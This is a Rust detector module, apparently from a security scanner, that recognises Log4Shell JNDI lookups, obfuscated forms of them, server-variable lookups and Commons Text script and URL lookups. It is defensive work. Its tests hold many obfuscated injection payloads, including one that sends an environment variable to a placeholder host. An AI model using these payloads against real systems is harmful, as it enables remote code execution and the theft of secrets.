//! Lookups of Log4j: `${jndi:ldap://…}`, however they are hidden (CVE-2021-44228, CVE-2021-45046, CWE-917).
//!
//! Log4j replaces lookups from the innermost on, and an unknown one by its default: `${::-j}` is `j`, `${lower:N}` is `n`,
//! `${env:X:-d}` is `d` where no X is set. So a text is read as Log4j reads it: what an inner lookup leaves is put in its
//! place, and the outer one is looked at then. Any value may come to be logged, so it is looked for everywhere. Variables
//! of scripts, builds and templates (`${user.name}`, `${project.version}`) are no lookups of this kind.
//!
//! Limits: a value that only a variable of the server holds is not known; lookups more than 16 deep are read no further.

use super::bytes::{begins, blanks, rest};
use super::{Analyzer, Matches, Rule, Text};

static JNDI: Rule = Rule {
    name: "jndi",
    score: 5,
    message: "A lookup makes Log4j load an object from a server.",
};

static HIDDEN: Rule = Rule {
    name: "hidden_lookup",
    score: 5,
    message: "A lookup of Log4j is put together from others that stand for single letters.",
};

static EXPOSING: Rule = Rule {
    name: "exposing_lookup",
    score: 3,
    message: "A lookup of Log4j asks for a variable or property of the server.",
};

static TEXT: Rule = Rule {
    name: "commons_text",
    score: 5,
    message: "A lookup makes Apache Commons Text run a script or fetch an address (CVE-2022-42889).",
};

pub(super) static ANALYZER: Analyzer = Analyzer {
    class: "log4shell",
    cwe: 917,
    gates: &[r"\$\{.*:"],
    rules: &[&JNDI, &HIDDEN, &EXPOSING, &TEXT],
    longest: usize::MAX,
    analyze,
};

/// How deep lookups are read.
const DEEPEST: usize = 16;

/// Lookups that tell what a server knows.
const EXPOSED: [&[u8]; 11] = [
    b"env:", b"sys:", b"java:", b"ctx:", b"docker:", b"k8s:", b"spring:", b"bundle:", b"main:",
    b"log4j:", b"web:",
];

/// A lookup that has begun.
struct Open {
    /// Where it begins in the text.
    at: usize,
    /// Where what is read of it begins.
    from: usize,
    /// How many single letters lookups within it have left.
    letters: usize,
}

fn analyze(text: &Text<'_>, matches: &mut Matches) {
    let bytes = text.bytes;
    let mut read: Vec<u8> = Vec::new();
    let mut open: Vec<Open> = Vec::new();
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        if byte == b'$' && bytes.get(at + 1) == Some(&b'{') && open.len() < DEEPEST {
            open.push(Open {
                at,
                from: read.len(),
                letters: 0,
            });
            at += 2;
            continue;
        }
        if open.is_empty() {
            // Nothing that matters, up to the next lookup.
            at += 1 + memchr::memchr(b'$', rest(bytes, at + 1)).unwrap_or(bytes.len());
            continue;
        }
        at += 1;
        if byte != b'}' {
            read.push(byte);
            continue;
        }
        if let Some(closed) = open.pop() {
            judge(&closed, rest(&read, closed.from), at, matches);
            let is_letter = leave(&mut read, closed.from);
            if let Some(outer) = open.last_mut() {
                outer.letters += usize::from(is_letter) + closed.letters;
            }
        }
        if open.is_empty() {
            read.clear();
        }
    }
    // The end of one may be in another value that is logged on the same line.
    for unclosed in &open {
        judge(unclosed, rest(&read, unclosed.from), bytes.len(), matches);
    }
}

/// Judges what is read of a lookup that goes up to `end`.
fn judge(lookup: &Open, read: &[u8], end: usize, matches: &mut Matches) {
    let name = rest(read, blanks(read));
    let range = lookup.at..end;
    if begins(name, b"jndi:") {
        matches.add(&JNDI, range.clone());
    } else if lookup.letters >= 2 || (lookup.letters == 1 && names_a_directory(name)) {
        matches.add(&HIDDEN, range.clone());
    }
    let of_text: [&[u8]; 6] = [
        b"script:javascript:",
        b"script:js:",
        b"script:groovy:",
        b"url:utf-8:",
        b"dns:address|",
        b"dns:canonicalname|",
    ];
    if of_text.iter().any(|known| begins(name, known)) {
        matches.add(&TEXT, range.clone());
    }
    // Names of the server's things are in capitals or have a dot; scripts and builds have `${env:name}` as well, but
    // there the value is a document.
    if EXPOSED.iter().any(|known| begins(name, known)) && lookup.letters == 0 {
        matches.add(&EXPOSING, range);
    }
}

/// Whether what follows the name of a lookup is the address of a directory.
fn names_a_directory(read: &[u8]) -> bool {
    let colon = memchr::memchr(b':', read).unwrap_or(read.len());
    let address = rest(read, colon + 1);
    let schemes: [&[u8]; 7] = [
        b"ldap:", b"ldaps:", b"rmi:", b"dns:", b"iiop:", b"nis:", b"corba:",
    ];
    schemes.iter().any(|scheme| begins(address, scheme))
}

/// Puts what a closed lookup leaves in its place, and tells whether that is a single letter.
fn leave(read: &mut Vec<u8>, from: usize) -> bool {
    let inner = rest(read, from);
    let default = memchr::memmem::find(inner, b":-").map(|at| at + 2);
    let skipped = match default {
        Some(default) => default,
        None => match memchr::memchr(b':', inner) {
            Some(colon)
                if begins(inner, b"lower:")
                    || begins(inner, b"upper:")
                    || begins(inner, b"date:") =>
            {
                colon + 1
            }
            _ => inner.len(),
        },
    };
    read.drain(from..from + skipped);
    // `${date:'j'}` leaves `j`.
    if rest(read, from).first() == Some(&b'\'')
        && read.last() == Some(&b'\'')
        && read.len() > from + 1
    {
        read.pop();
        read.remove(from);
    }
    // A letter beyond ASCII is one as well: `ı` in capitals is `I` to Java.
    matches!(rest(read, from), [_] | [0xc2..=0xdf, _])
}

#[cfg(test)]
mod tests {
    use super::super::tests::found;
    use super::*;

    #[test]
    fn lookups_are_read_as_log4j_reads_them() {
        for text in [
            "${jndi:ldap://a.example/x}",
            "x ${JNDI:rmi://a.example} y",
            "${jndi:dns://${env:USER}.a.example}",
            "${${lower:j}ndi:${lower:l}dap://a.example/x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://a.example}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a.example/o}",
            "${jnd${upper:i}:ldap://a.example",
            "${${date:'j'}ndi:ldap://a.example}",
            "${ jndi:ldap://a.example}",
            "${${env:X:-j}ndi${env:X:-:}ldap://a.example}",
            "$${jndi:ldap://a.example}",
        ] {
            assert!(found(&ANALYZER, text).contains(&"jndi"), "{text}");
        }
        for text in [
            "${jnd${upper:\u{131}}:ldap://a.example}",
            "${jnd${upper:1}:rmi:/a.example}",
        ] {
            assert!(!found(&ANALYZER, text).is_empty(), "{text}");
        }
        for text in [
            "${${::-x}${::-y}z}",
            "${${a:b:-q}${c:d:-r}:s}",
            "${${lower:a}${lower:b}c}",
        ] {
            assert_eq!(found(&ANALYZER, text), ["hidden_lookup"], "{text}");
        }
        for text in [
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:user.home}",
            "${java:version}",
            "${docker:imageId}",
        ] {
            assert_eq!(found(&ANALYZER, text), ["exposing_lookup"], "{text}");
        }
    }

    #[test]
    fn lookups_of_commons_text_are_found() {
        for text in [
            "${script:javascript:7*7}",
            "${url:UTF-8:http://a.example/}",
            "${dns:address|a.example}",
        ] {
            assert_eq!(found(&ANALYZER, text), ["commons_text"], "{text}");
        }
    }

    #[test]
    fn other_variables_are_none() {
        for text in [
            "${url:-http://a.example}",
            "${dns: a}",
            "${user.name}",
            "`${a}:${b}` and ${c ? d : e}",
            "${project.version}:jar",
            "jndi:ldap is a scheme",
            "${{ github.sha }}: ok",
            "${HOME:-/root}/bin",
            "${port:-8080} ${host:-localhost}",
            "cost: $5 {a: b}",
            "${",
            "}${:}",
        ] {
            assert_eq!(found(&ANALYZER, text), [""; 0], "{text}");
        }
    }

    /// Known misses: what only the server knows, and lookups that are not written as such.
    #[test]
    fn what_only_the_server_knows_is_missed() {
        for text in [
            "${${sys:name.of.jndi}:ldap://a.example}",
            "jndi:ldap://a.example",
        ] {
            assert!(!found(&ANALYZER, text).contains(&"jndi"), "{text}");
        }
    }

    #[test]
    fn depth_costs_no_more_than_length() {
        let deep = "${lower:".repeat(20_000);
        assert_eq!(found(&ANALYZER, &deep), [""; 0]);
        let closed = [deep.as_str(), &"}".repeat(20_000)].concat();
        found(&ANALYZER, &closed);
    }
}
